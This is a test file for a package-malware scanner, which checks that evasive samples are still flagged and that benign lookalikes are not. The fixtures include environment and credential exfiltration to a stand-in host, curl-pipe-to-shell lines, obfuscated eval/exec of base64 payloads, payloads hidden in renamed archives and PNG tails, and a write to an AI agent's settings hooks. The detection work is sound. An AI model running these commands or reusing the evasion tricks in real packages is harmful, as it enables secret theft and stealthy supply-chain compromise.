import { gzipSync } from 'node:zlib';
import type { Sample } from '../rules/sample';
import { ustar } from '../testing/archives';
import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
import { many, PY, tarball, wheel, type SilenceCase as Case } from '../testing/silence-cases';
import { analyzeArtifact } from './analyze-artifact';

/** What is honest, and what of it is said. */
type Twin = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: 'clean' | 'warning'];

/** Sends the environment away. */
const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));`;

/** `node -e` of code that runs `node -e` … */
const givenTimes = (times: number, code: string): string =>
  times === 0
    ? code
    : givenTimes(
        times - 1,
        `require('child_process').execFileSync('node', ['-e', ${JSON.stringify(code)}]);`,
      );
const echoes = many(60, (at) => `subprocess.run('echo ${at}', shell=True)\n`);

const COMMANDS: readonly Case[] = [
  [
    'code given to an interpreter, further in than is read',
    tarball(givenTimes(5, JS)),
    'suspicious',
    'code-obfuscated',
  ],
  ['a command alone in a module', wheel(PY), 'suspicious', 'code-remote-code'],
  [
    'a command behind sixty others',
    wheel(`import subprocess\n${echoes}subprocess.run('curl https://x.invalid | sh', shell=True)\n`),
    'suspicious',
    'code-remote-code',
  ],
];
const HONEST_COMMANDS: readonly Twin[] = [
  ['code given to an interpreter, that gives code to one', tarball(givenTimes(2, 'console.log(1)')), 'clean'],
  ['what is fetched and kept', wheel(`import os\nos.system('curl -o x https://x.invalid')\n`), 'clean'],
  ['many commands', wheel(`import subprocess\n${echoes}`), 'clean'],
];

/** `a.py` that sends the environment away, in a tar in a gzip stream. */
const TGZ = gzipSync(ustar('a.py', `import os, requests\nrequests.post('x', json=dict(os.environ))\n`));
const XZ = { hex: 'fd377a585a000004e6d6b446', then: 'x' };
const ARCHIVES: readonly Case[] = [
  [
    'an archive by another name',
    wheel('x = 1', { 'sample/a.dat': { hex: TGZ.toString('hex') } }),
    'malicious',
    'code-secret-sent',
  ],
  [
    'an archive by the name of data that is compressed',
    wheel('x = 1', { 'sample/a.csv.gz': { hex: TGZ.toString('hex') } }),
    'malicious',
    'code-secret-sent',
  ],
  [
    'a gzip stream that begins with a long name',
    wheel('x = 1', { 'sample/a.gz': { hex: '1f8b0808000000000003', then: 'x'.repeat(5_000) } }),
    'warning',
    'code-unread',
  ],
  ['an archive of another kind', wheel('x = 1', { 'sample/a.tar.xz': XZ }), 'warning', 'code-unread'],
  ['the same by another name', wheel('x = 1', { 'sample/a.dat': XZ }), 'warning', 'code-unread'],
  [
    'an archive of another kind, by its first bytes',
    wheel('x = 1', { 'sample/a.dat': { hex: '377abcaf271c0004' } }),
    'warning',
    'code-unread',
  ],
  [
    'an archive that is too large to be kept, by another name',
    wheel('x = 1', { 'sample/a.dat': { hex: '504b0304', then: '\0'.repeat(1_100_000) } }),
    'warning',
    'code-unread',
  ],
];
const HONEST_ARCHIVES: readonly Twin[] = [
  ['data that is compressed', wheel('x = 1', { 'sample/a.csv.xz': XZ }), 'clean'],
  [
    'data in a gzip stream',
    wheel('x = 1', { 'sample/a.csv.gz': { hex: gzipSync('1,2\n'.repeat(9_999)).toString('hex') } }),
    'clean',
  ],
  [
    'an archive of data',
    wheel('x = 1', { 'sample/a.dat': { hex: gzipSync(ustar('a.csv', '1,2')).toString('hex') } }),
    'clean',
  ],
];

/** Starts what it reads out of an asset whose name is put together, and names another one that is not carried. */
const started = (name: string): string =>
  `import subprocess\n# state.dat\ndef run(folder, n):\n    with open(${name}) as f:\n        command = f.read()\n    subprocess.call(command, shell=True)\n`;
const ASSETS: readonly Case[] = [
  [
    'an asset whose name is put together, beside one that is named',
    wheel(started(`folder + n + 'l.dat'`), { 'sample/real.dat': 'id' }),
    'malicious',
    'code-asset-payload',
  ],
  [
    'an asset whose name is filled in',
    wheel(started(`folder + 're%s.dat' % n`), { 'sample/real.dat': 'id' }),
    'malicious',
    'code-asset-payload',
  ],
  [
    'the same in an archive within',
    wheel(started(`folder + n + 'l.dat'`), {
      'sample/a.tgz': { hex: gzipSync(ustar('real.dat', 'id')).toString('hex') },
    }),
    'malicious',
    'code-asset-payload',
  ],
];
const HONEST_ASSETS: readonly Twin[] = [
  ['a tool that goes on by what it wrote down', wheel(started(`folder + n + 'l.dat'`)), 'clean'],
  [
    'the same, that carries other data for its tests',
    wheel(started(`folder + 'coredata.dat'`), { 'sample/tests/trace.dat': '1 2', 'sample/tests/a.png': '' }),
    'clean',
  ],
];

const ACTS = ['socket', 'sendto', 'opendir', 'gethostname'];
const named = (count: number, name: string): string[] => Array.from({ length: count }, (_, at) => name + at);
const shared = (imports: string[], exports: string[], texts: string[] = []): Omit<Sample, 'what'> =>
  wheel('x = 1', { 'sample/_x.so': { machineCode: { format: 'elf', imports, exports, texts } } });
const MACHINE_CODE: readonly Case[] = [
  ['what it does behind functions it offers', shared(ACTS, named(40, 'f')), 'suspicious', 'native-acts'],
  [
    'what it does behind functions that tell as much',
    shared([...named(65, 'getpw'), ...ACTS], []),
    'suspicious',
    'native-acts',
  ],
  [
    'a hidden name behind thousands that can be read',
    shared([], [], ['/.npmrc '.repeat(25_000), './rri.he^sr`']),
    'malicious',
    'native-hidden-secrets',
  ],
];
const HONEST_MACHINE_CODE: readonly Twin[] = [
  ['a library that offers many functions', shared(ACTS, named(71, 'sasl_')), 'clean'],
  ['names that can be read', shared([], [], ['/.npmrc '.repeat(25_000)]), 'clean'],
];

const PADDING = 'a '.repeat(10_500);
const brackets = (times: number, name: string): string => '('.repeat(times) + name + ')'.repeat(times);
const readsText = (text: string): Omit<Sample, 'what'> => ({
  format: 'sdist',
  files: { 'setup.py': `import urllib.request\nkey = open("${text}"[-17:]).read()\n` },
});
const writes = (name: string, text: string): Omit<Sample, 'what'> =>
  tarball(
    `const fs = require('fs');${'f(1);'.repeat(3_100)}fs.writeFileSync(process.env.HOME + ['/.cla', '${name}'].join(''), '${text}')`,
  );
const TEXTS: readonly Case[] = [
  [
    'a name of credentials behind a long text',
    readsText(`${PADDING}/.aws/credentials`),
    'malicious',
    'build-credential-theft',
  ],
  [
    'an evaluator in many brackets',
    wheel(`import base64\n${brackets(60, 'exec')}(base64.b64decode(KEY))\n`),
    'suspicious',
    'code-hidden-code',
  ],
  [
    'an evaluator of JavaScript in many brackets',
    tarball(`${brackets(300, 'eval')}(Buffer.from(process.argv[2], 'base64').toString());`),
    'suspicious',
    'code-hidden-code',
  ],
  [
    'an evaluator behind many lists',
    tarball(`${'(0, '.repeat(60)}eval${')'.repeat(60)}(Buffer.from(process.argv[2], 'base64').toString());`),
    'suspicious',
    'code-hidden-code',
  ],
  [
    'an evaluator in many names',
    wheel(`import base64\n${'(a := '.repeat(60)}exec${')'.repeat(60)}(base64.b64decode(KEY))\n`),
    'suspicious',
    'code-hidden-code',
  ],
  [
    'an evaluator in many choices',
    wheel(`import base64\n${'('.repeat(60)}exec${' if a else b)'.repeat(60)}(base64.b64decode(KEY))\n`),
    'warning',
    'code-unread',
  ],
  [
    'settings that are written behind thousands of calls',
    writes('ude/settings.json', '{"hooks":{"SessionStart":[]}}'),
    'suspicious',
    'code-agent-settings',
  ],
];
const HONEST_TEXTS: readonly Twin[] = [
  [
    'a function in many brackets',
    wheel(`import base64\n${brackets(60, 'print')}(base64.b64decode(KEY))\n`),
    'clean',
  ],
  [
    'a function of JavaScript in many brackets',
    tarball(`${brackets(300, 'print')}(Buffer.from(process.argv[2], 'base64').toString());`),
    'clean',
  ],
  ['what is written that is no settings', writes('ss.json', '{"a":1}'), 'clean'],
];

/** PNG specification 5.3: a length, a name, a checksum. */
const png = (parts: number, behind: string): Omit<Sample, 'what'> =>
  wheel('x = 1', {
    'sample/a.png': {
      hex: '89504e470d0a1a0a',
      then: `${'\0\0\0\0tEXt\0\0\0\0'.repeat(parts)}\0\0\0\0IEND\0\0\0\0${behind}`,
    },
  });
const PICTURES: readonly Case[] = [
  [
    'a script behind a picture of many parts',
    png(100_001, '#!/bin/sh\ncurl https://x.invalid | sh\n'),
    'warning',
    'file-polyglot',
  ],
];
const HONEST_PICTURES: readonly Twin[] = [['a picture of many parts', png(100_001, ''), 'clean']];

const GROUPS: readonly (readonly [string, readonly Case[], readonly Twin[]])[] = [
  ['commands', COMMANDS, HONEST_COMMANDS],
  ['archives', ARCHIVES, HONEST_ARCHIVES],
  ['assets', ASSETS, HONEST_ASSETS],
  ['machine code', MACHINE_CODE, HONEST_MACHINE_CODE],
  ['texts and names', TEXTS, HONEST_TEXTS],
  ['pictures', PICTURES, HONEST_PICTURES],
];

async function analysisOf(what: string, sample: Omit<Sample, 'what'>) {
  const whole: Sample = { what, ...sample };
  const { verdict, findings } = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));
  return { verdict, rules: findings.map(({ rule }) => rule) };
}

describe.each(GROUPS)('where the reading of %s ends', (_, cases, twins) => {
  it.each(cases)('something is said of %s', async (what, sample, verdict, rule) => {
    expect(await analysisOf(what, sample)).toEqual({ verdict, rules: expect.arrayContaining([rule]) });
  });

  it.each(twins)('honest: %s', async (what, sample, verdict) => {
    expect((await analysisOf(what, sample)).verdict).toBe(verdict);
  });
});
